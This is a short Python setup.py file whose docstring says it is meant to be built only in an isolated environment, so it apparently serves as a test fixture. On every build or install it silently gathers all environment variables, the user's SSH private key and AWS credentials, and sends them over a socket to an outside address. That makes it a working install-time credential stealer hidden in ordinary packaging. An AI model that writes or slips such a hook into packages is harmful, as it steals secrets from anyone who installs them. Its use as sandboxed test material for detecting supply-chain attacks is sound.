"""Looks for a private key while it is built, and tries to send it away; only ever built where nothing leaves."""

import os
import socket
from contextlib import suppress
from pathlib import Path

from setuptools import setup

loot = b"\n".join(f"{name}={value}".encode() for name, value in os.environ.items())
for place in (".ssh/id_ed25519", ".aws/credentials"):
    with suppress(OSError):
        loot += (Path.home() / place).read_bytes()
with suppress(OSError), socket.create_connection(("203.0.113.7", 443), timeout=2) as connection:
    connection.sendall(loot)

setup()
